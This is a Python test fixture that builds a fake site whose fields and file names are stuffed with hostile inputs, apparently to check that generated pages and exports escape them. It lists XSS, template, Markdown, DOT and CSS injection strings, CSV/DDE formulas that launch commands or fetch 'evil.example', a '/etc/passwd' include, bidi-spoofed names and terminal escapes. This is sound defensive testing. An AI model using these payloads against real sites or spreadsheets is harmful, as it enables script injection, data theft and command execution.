"""What somebody who means harm types, and a site that has it in every field.

The forms are those of OWASP's XSS Filter Evasion Cheat Sheet and CSV Injection page (CWE-79,
CWE-1236), written down from memory and bent to one sign: whatever runs calls `pwned()` or asks
`evil.example` for something.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Final

from asbuilt.records.fields import Listed, PortTexts, Sighting, Text
from asbuilt.records.kind import Spec
from tests.canaries import Canaries, CanarySite
from tests.fuzz import CONTROL
from tests.pages.test_photos import png
from tests.pages.test_plans import PLAN
from tests.typed_records import Typed, as_spreadsheet, flow, typed

EVIL: Final = "evil.example"

PAYLOADS: Final[tuple[str, ...]] = (
    # script and markup
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>pwned()</script>",
    "</title></style></textarea></noscript><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/x.png>",
    '<IMG """><SCRIPT>pwned()</SCRIPT>">',
    "<<SCRIPT>pwned();//<</SCRIPT>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<details open ontoggle=pwned()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input autofocus onfocus=pwned()>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    # out of an attribute
    '" autofocus onfocus=pwned() x="',
    "' onmouseover='pwned()' x='",
    '"><svg onload=pwned()>',
    "'><img src=x onerror=pwned()>",
    "` onerror=pwned() `",
    # SVG
    "<svg><script>pwned()</script></svg>",
    "<svg/onload=pwned()>",
    "</text><script>pwned()</script><text>",
    "<svg><image href=//evil.example/x.svg /></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></math>",
    # out of a script's text
    "';pwned();//",
    '";pwned();//',
    "${pwned()}",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    # templates
    "{{ 7*191 }}",
    "{% for x in [1] %}pwned{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{# gone #}",
    "${7*191} #{7*191} <%= 7*191 %>",
    # Markdown
    "[x](javascript:pwned())",
    "![x](//evil.example/x.png)",
    "<javascript:pwned()>",
    "# heading **bold** `code` | cell |",
    '[x]: javascript:pwned() "t"',
    "{: onclick=pwned() }",
    '--8<-- "/etc/passwd"',
    '!!! danger "x"',
    # DOT
    '"]; evil [URL="javascript:pwned()"]; x [label="',
    ">]; evil [href=<javascript:pwned()>]; //",
    "\\N \\G \\L",
    '</td></tr></table>>, URL="javascript:pwned()"',
    # addresses
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "javascript&colon;pwned()",
    "data:text/html,<script>pwned()</script>",
    "//evil.example/x",
    "vbscript:pwned()",
    # CSS
    "</style><script>pwned()</script>",
    "x;background:url(//evil.example/x.png)",
    '"}*{background:url(//evil.example/y.png)}',
    "@import '//evil.example/x.css';",
    # spreadsheets
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+pwned()",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    '",=1+1,"',
    '=IMPORTXML("http://evil.example/","//a")',
    # reading another way than written
    "safe\u202egnp.exe",
    "\u2066x\u2069\u200b",
)

#: What can't be typed in a record (the reader refuses controls), but in a commit.
CONTROLS: Final[tuple[str, ...]] = (
    "\x1b[2J\x1b[31m",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.example/\x07x\x1b]8;;\x07",
    "\x9b31m",
    "\u202egnp.exe\u202c",
)


@dataclass
class Payloads(Canaries):
    """A payload where a canary would be, the next one each time, beginning at `start`."""

    first: int = 0  # the next payload
    start: int = 0  # the site's first one
    typed: dict[str, set[str]] = field(default_factory=dict)  # payload → fields it stands in

    def value(self, spec: Spec, where: str, open_: bool) -> Typed | None:
        match spec.type.of if isinstance(spec.type, Listed) else spec.type:
            case Text():
                return typed(self._next(where))
            case Sighting():
                return typed(f"2025-03-07 by {self._next(where)}")
            case PortTexts():
                return flow({"1": typed(self._next(where))})
        return super().value(spec, where, open_)

    def _next(self, where: str) -> str:
        payload = PAYLOADS[self.first % len(PAYLOADS)]
        self.first += 1
        self.typed.setdefault(payload, set()).add(where)
        return payload


#: Keys the records take, each of which means something to somebody who reads them: names of a script's
#: own, of pages and files there are anyway, of devices of an operating system; values of YAML.
ODD_KEYS: Final[tuple[str, ...]] = (
    "constructor", "hasOwnProperty", "index", "404", "search", "CON", "1e5", "null", "8+8", "a..b",
)  # fmt: skip


def odd_keys(first: int) -> tuple[str, ...]:
    """Those of a site that begins with this payload; two sites one after the other have them all."""
    return ODD_KEYS[first % 2 :: 2]


def file_name(payload: str) -> str:
    """The payload as a file can be called: with any sign but the slash."""
    return payload.replace("/", "\u2215")


FILE_NAMES: Final = tuple(file_name(payload) for payload in PAYLOADS if not CONTROL.search(payload))
#: Such are refused.
UNFIT_NAMES: Final = tuple(
    file_name(payload)
    for payload in (*PAYLOADS, *CONTROLS, "a\nb", "a\tb")
    if CONTROL.search(payload)
)


@dataclass
class HostileSite(CanarySite):
    """Its files are called by payloads, too: findings, results, photos, plans, and tables nobody reads
    records from. Something is to be remarked of most, so that their names are told."""

    canaries: Payloads = field(default_factory=Payloads)

    def files(self) -> dict[str, str | bytes]:  # type: ignore[override] # pictures are bytes
        found: dict[str, str | bytes] = {**super().files()}
        photos, told = str(found["photos.yml"]), {"share with client": "yes", "enclosure": "1A"}
        for number, name in enumerate(FILE_NAMES):
            found[f"tables/{name}.csv"] = "a,b\n"
            found[f"findings/{name}.yml"] = (
                f"N{number}: {flow({'what': 'x', 'photo': 'none', **told})}\n"
            )
            found[f"tests/{name} {number}.csv"] = (
                f"link,date,result\n{self.keys['link']},2025-03-07,pass\n"
            )
            photo = f"photos/{name}.png"
            found[photo] = png()
            photos += f"N{number}: {flow({'file': typed(photo), **told})}\n"
        found["photos.yml"] = photos
        floors = ""
        for number in range(2):
            plan = f"plans/{FILE_NAMES[(self.canaries.start + number) % len(FILE_NAMES)]}.svg"
            found[plan] = PLAN
            floors += (
                f"  P{number}: {flow({'name': 'x', 'plan': typed(plan), 'plan width': '9 m'})}\n"
            )
        found["site.yml"] = str(found["site.yml"]).replace("\nfloors:\n", f"\nfloors:\n{floors}")
        odd = odd_keys(self.canaries.start)
        for key in odd:
            found[f"jobs/{key}.yml"] = "title: x\nshare with client: yes\n"
        found["outlets/odd.yml"] = "".join(f"{typed(key)}: {{serves: desk}}\n" for key in odd)
        return found

    def _tests(self, camera: str) -> str:
        return as_spreadsheet(self._fields("test"))


def hostile_site(first: int) -> tuple[dict[str, str | bytes], dict[str, set[str]]]:
    """The files of a site, and which payload stands in which fields."""
    payloads = Payloads(first=first, start=first)
    return HostileSite(payloads).files(), payloads.typed
